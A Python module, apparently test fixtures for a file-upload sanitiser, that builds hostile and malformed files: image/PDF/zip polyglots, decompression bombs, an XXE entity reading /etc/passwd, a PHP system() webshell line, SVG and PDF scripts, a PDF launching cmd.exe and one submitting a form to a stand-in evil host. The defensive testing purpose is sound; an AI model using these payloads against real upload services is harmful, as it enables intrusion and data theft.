"""Files that mean harm, made by code: what somebody could hand in at any place that takes files.

Each has a name that tells what it does. `MARKS` are the bytes that must not come out again: places, scripts, the
second face of a file that is two things at once.
"""

import io
import struct
import zipfile
import zlib

from PIL import Image, ImageCms, PngImagePlugin

SCRIPT = b"<script>alert('cchc-mark')</script>"
PLACE = b"cchc-mark 21.028511,105.804817"
MARKS = (b"cchc-mark", b"<script", b"21.028511", b"PK\x03\x04", b"%PDF", b"Exif", b"GPS", b"ns.adobe.com", b"8BIM",
         b"ICC_PROFILE", b"MAY-ANH", b"<?php", b"MZ\x90")  # fmt: skip
GPS = {0: b"\x02\x03\x00\x00", 1: "N", 2: (21.0, 1.0, 42.5), 3: "E", 4: (105.0, 48.0, 17.25)}
EOCD = b"PK\x05\x06" + b"\0" * 18


def picture(fmt="JPEG", size=(96, 64), mode="RGB", colour=None, **options) -> bytes:
    written = io.BytesIO()
    Image.new(mode, size, colour if colour is not None else 0).save(written, fmt, **options)
    return written.getvalue()


def exif(orientation=1) -> bytes:
    made = Image.Exif()
    made[0x010F], made[0x0112], made[0x9286] = "MAY-ANH", orientation, PLACE.decode()
    made.get_ifd(0x8825).update(GPS)
    return made.tobytes()


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def with_segments(*segments: bytes) -> bytes:
    """A JPEG with these segments after its first two bytes."""
    plain = picture()
    return plain[:2] + b"".join(segments) + plain[2:]


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_chunks(*chunks: bytes) -> bytes:
    """A PNG with these chunks after its header."""
    plain = picture("PNG")
    return plain[:33] + b"".join(chunks) + plain[33:]


def png(side: int, rows: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def bomb(side: int) -> bytes:
    return png(side, zlib.compress(b"\0" * ((side // 8 + 1) * side), 9))


def webp_chunk(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def webp_with(*parts: bytes) -> bytes:
    body = picture("WEBP", exif=exif())[12:] + b"".join(parts)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def frames(fmt: str, count=3, **options) -> bytes:
    written = io.BytesIO()
    made = [Image.new("RGB", (64, 48), (number * 40, 0, 0)) for number in range(count)]
    made[0].save(written, fmt, save_all=True, append_images=made[1:], **options)
    return written.getvalue()


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n" + b"\n".join(b"%d 0 obj\n%s\nendobj" % pair for pair in enumerate(objects, start=1))
    return body + b"\nxref\n0 1\ntrailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n" + tail


def stream(data: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return b"<</Length %d /Filter /FlateDecode %s>>\nstream\n%s\nendstream" % (len(packed), extra, packed)


def zipped(**parts: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), data)
    return written.getvalue()


def book(**more: bytes) -> bytes:
    """A workbook of one sheet with further parts; an underscore pair is a slash."""
    main = b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped(**{"[Content_Types]_DOT_xml": types, "xl__workbook_DOT_xml": main} | more)


CATALOGUE = b"<</Type /Catalog /Pages 2 0 R>>"
XMP = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><exif:GPSLatitude>" + PLACE + b"</exif:GPSLatitude></x:xmpmeta>"
IPTC = b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", 40) + b"\x1c\x02\x5a" + PLACE
PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "cchc-mark"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet>&c;&c;</worksheet>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>'


def not_pictures() -> dict[str, bytes]:
    """Wrong types, whatever their name says."""
    return {
        "empty": b"",
        "one byte": b"\xff",
        "text": b"khong phai anh",
        "html": b"<!doctype html><body>" + SCRIPT,
        "svg with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
        "svg with an entity": b'<?xml version="1.0"?>' + OUTSIDE.replace(b"worksheet", b"svg"),
        "php": b"<?php system($_GET['cchc-mark']); ?>",
        "php after a gif header": b"GIF89a<?php echo 'cchc-mark'; ?>",
        "shell script": b"#!/bin/sh\necho cchc-mark\n",
        "windows program": b"MZ\x90\0" + b"\0" * 200,
        "elf program": b"\x7fELF" + b"\0" * 200,
        "gif": picture("GIF", mode="P"),
        "animated gif": frames("GIF"),
        "bmp": picture("BMP"),
        "tiff": picture("TIFF"),
        "tiff of many pages": frames("TIFF"),
        "ico": picture("ICO"),
        "ppm": picture("PPM"),
        "jpeg 2000 header": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 80,
        "heic header": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 120 + PLACE,
        "avif header": b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\0" * 120,
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(cchc-mark) run\n",
        "psd header": b"8BPS\0\x01" + b"\0" * 80,
        "dicom header": b"\0" * 128 + b"DICM" + b"\0" * 40,
        "fits header": b"SIMPLE  =                    T" + b" " * 2850,
        "ole document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "zip": zipped(a=SCRIPT),
        "zip in a zip": zipped(a=zipped(b=zipped(c=SCRIPT))),
        "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + zlib.compress(SCRIPT),
        "rar header": b"Rar!\x1a\x07\x01\0" + b"\0" * 60,
        "json": b'{"__proto__": {"x": "cchc-mark"}}',
    }


def broken_pictures() -> dict[str, bytes]:
    """Begin like a picture and are cut off, empty, or far too large."""
    jpeg, plain, web = picture(size=(800, 600)), picture("PNG", size=(300, 300)), picture("WEBP", size=(300, 300))
    huge = struct.pack(">HH", 65_500, 65_500)
    sof = jpeg.index(b"\xff\xc0") + 5
    return {
        "jpeg of its first two bytes": b"\xff\xd8",
        "jpeg cut in half": jpeg[: len(jpeg) // 2],
        "jpeg header and zeros": b"\xff\xd8\xff\xe0" + b"\0" * 60,
        "jpeg that says it is 65,500 wide": jpeg[:sof] + huge + jpeg[sof + 4 :],
        "jpeg of no height": jpeg[:sof] + b"\0\0" + jpeg[sof + 2 :],
        "png signature and zeros": b"\x89PNG\r\n\x1a\n" + b"\0" * 60,
        "png cut in its rows": plain[: len(plain) - 30],
        "png with a wrong checksum": plain[:40] + bytes([plain[40] ^ 255]) + plain[41:],
        "png without rows": png(64, b""),
        "png of rubbish rows": png(64, b"\x78\x9c" + b"\xaa" * 50),
        "png bomb of 144 megapixels": bomb(12_000),
        "png bomb of 900 megapixels": bomb(30_000),
        "png header of 4 thousand million": png(2**31 - 1, b""),
        "png text bomb": with_chunks(*[chunk(b"zTXt", b"a\0\0" + zlib.compress(b"A" * 2**24, 9))] * 6),
        "png with a profile bomb": with_chunks(chunk(b"iCCP", b"a\0\0" + zlib.compress(b"A" * 2**25, 9))),
        "webp cut off": web[: len(web) // 2],
        "webp header alone": b"RIFF\0\0\0\0WEBPVP8 ",
        "webp of huge sides": b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff",
    }


def carriers() -> dict[str, bytes]:
    """True pictures that carry a place, a device, a script or a second file: readable, so they come out bare."""
    jpeg, plain = picture(), picture("PNG")
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", PLACE.decode())
    info.add_text("Comment", SCRIPT.decode(), zip=True)
    info.add_itxt("XML:com.adobe.xmp", XMP.decode("latin-1").replace("\0", " "), zip=True)
    thumbnail = with_segments(segment(0xE1, b"Exif\0\0" + exif()[6:]))
    return {
        "jpeg with exif": picture(exif=exif()),
        "jpeg turned by exif": picture(exif=exif(orientation=6)),
        "jpeg with an impossible turn": picture(exif=exif(orientation=999)),
        "jpeg with xmp": with_segments(segment(0xE1, XMP)),
        "jpeg with extended xmp": with_segments(segment(0xE1, XMP), segment(0xE1, XMP.replace(b"xap", b"xmp"))),
        "jpeg with iptc": with_segments(segment(0xED, IPTC)),
        "jpeg with a comment": picture(comment=SCRIPT + PLACE),
        "jpeg with a thumbnail of its own": with_segments(segment(0xE1, b"Exif\0\0" + exif()[6:] + thumbnail)),
        "jpeg with a jfxx thumbnail": with_segments(segment(0xE0, b"JFXX\0\x10" + thumbnail[:4000])),
        "jpeg with maker notes": with_segments(segment(0xE4, b"MAY-ANH" + PLACE)),
        "jpeg with app15": with_segments(segment(0xEF, SCRIPT + PLACE)),
        "jpeg with a colour profile": picture(icc_profile=PROFILE),
        "jpeg with a profile bomb": with_segments(*[segment(0xE2, b"ICC_PROFILE\0\x01\x09" + b"A" * 65_000)] * 9),
        "jpeg with a false profile": with_segments(segment(0xE2, b"ICC_PROFILE\0\x01\x01" + SCRIPT)),
        "jpeg in cmyk": picture(mode="CMYK", exif=exif()),
        "jpeg in grey": picture(mode="L", comment=SCRIPT),
        "jpeg progressive": picture(progressive=True, exif=exif()),
        "jpeg and html": jpeg + SCRIPT,
        "jpeg and php": jpeg + b"<?php cchc-mark ?>",
        "jpeg and zip": jpeg + zipped(a=SCRIPT, b=PLACE),
        "jpeg and pdf": jpeg + pdf(CATALOGUE),
        "jpeg and javascript": with_segments(segment(0xFE, b"*/=1;alert('cchc-mark');/*")),
        "jpeg and a second jpeg": jpeg + picture(exif=exif()),
        "jpeg of many frames (mpo)": frames("MPO", exif=exif()),
        "png with an exif chunk": picture("PNG", exif=exif()),
        "png with text chunks": picture("PNG", pnginfo=info),
        "png with a private chunk": with_chunks(chunk(b"gpSx", PLACE + SCRIPT)),
        "png with a raw exif text": with_chunks(chunk(b"tEXt", b"Raw profile type exif\0" + PLACE)),
        "png with a colour profile": picture("PNG", icc_profile=PROFILE),
        "png and html": plain + SCRIPT,
        "png and zip": plain + zipped(a=SCRIPT),
        "png of many frames": frames("PNG"),
        "png in 16 bits": picture("PNG", mode="I;16"),
        "png with a palette and holes": picture("PNG", mode="P", transparency=0),
        "png through and through": picture("PNG", mode="RGBA", colour=(0, 0, 0, 0)),
        "webp with exif": picture("WEBP", exif=exif()),
        "webp with xmp": picture("WEBP", xmp=XMP),
        "webp with an unknown chunk": webp_with(webp_chunk(b"GPS ", PLACE + SCRIPT)),
        "webp and html": picture("WEBP") + SCRIPT,
        "webp of many frames": frames("WEBP"),
    }


def documents() -> dict[str, bytes]:
    """PDFs that act, carry something, are locked or cut off."""
    action = b"<</Type /Catalog /OpenAction <</S /%s /JS (app.alert('cchc-mark'))>>>>"
    return {
        "pdf header alone": b"%PDF-1.7\n",
        "pdf cut off": pdf(CATALOGUE, stream(b"x" * 900))[:-30],
        "pdf with a script": pdf(action % b"JavaScript"),
        "pdf with an escaped script": pdf(action % b"J#61va#53cript"),
        "pdf with a script in packed objects": pdf(
            CATALOGUE, stream(b"9 0 " + action % b"JavaScript", b"/Type /ObjStm")
        ),
        "pdf that starts a program": pdf(b"<</Type /Catalog /OpenAction <</S /Launch /F (cmd.exe)>>>>"),
        "pdf that sends a form": pdf(b"<</Type /Annot /A <</S /SubmitForm /F (http://evil.invalid)>>>>"),
        "pdf with a form of xml": pdf(b"<</Type /Catalog /AcroForm <</XFA 5 0 R>>>>"),
        "pdf with a player": pdf(b"<</Type /Annot /Subtype /RichMedia>>"),
        "pdf with a file inside": pdf(CATALOGUE, stream(b"MZ\x90", b"/Type /EmbeddedFile")),
        "pdf that opens a file inside": pdf(b"<</Type /Catalog /OpenAction <</S /GoToE>>>>"),
        "pdf with a password": pdf(CATALOGUE, b"<</Encrypt 7 0 R>>"),
        "pdf and html": pdf(CATALOGUE, tail=SCRIPT),
        "pdf and zip": pdf(CATALOGUE, tail=zipped(a=SCRIPT)),
        "pdf in a zip's comment": pdf(CATALOGUE)[:-6] + zipped(a=SCRIPT)[:-2] + b"\x06\0%%EOF\n",
        "pdf bomb": pdf(CATALOGUE, stream(b"\0" * (60 * 2**20))),
        "pdf of many bombs": pdf(*[stream(b"\0" * (30 * 2**20))] * 5),
    }


def books() -> dict[str, bytes]:
    """Workbooks that unpack to gigabytes, hold macros or links, or are something else."""
    return {
        "workbook with a macro": book(xl__vbaProject_DOT_bin=b"cchc-mark"),
        "workbook with a link outside": book(xl__externalLinks__externalLink1_DOT_xml=b"<x/>"),
        "workbook with an embedded object": book(xl__embeddings__oleObject1_DOT_bin=b"MZ\x90"),
        "workbook with an old macro sheet": book(xl__macrosheets__sheet1_DOT_xml=b"<x/>"),
        "workbook bomb": book(xl__worksheets__sheet1_DOT_xml=b"<worksheet>" + b" " * (60 * 2**20) + b"</worksheet>"),
        "workbook of entities": book(xl__worksheets__sheet1_DOT_xml=ENTITIES),
        "workbook that reads a file": book(xl__worksheets__sheet1_DOT_xml=OUTSIDE),
        "workbook of 3,000 parts": book(**{f"xl__x{number}_DOT_xml": b"" for number in range(3_000)}),
        "zip with an end alone": EOCD,
        "workbook cut off": book()[:-30],
    }


def everything() -> dict[str, bytes]:
    """The whole corpus by name."""
    made: dict[str, bytes] = {}
    for part in (not_pictures(), broken_pictures(), carriers(), documents(), books()):
        assert not made.keys() & part.keys()
        made |= part
    return made
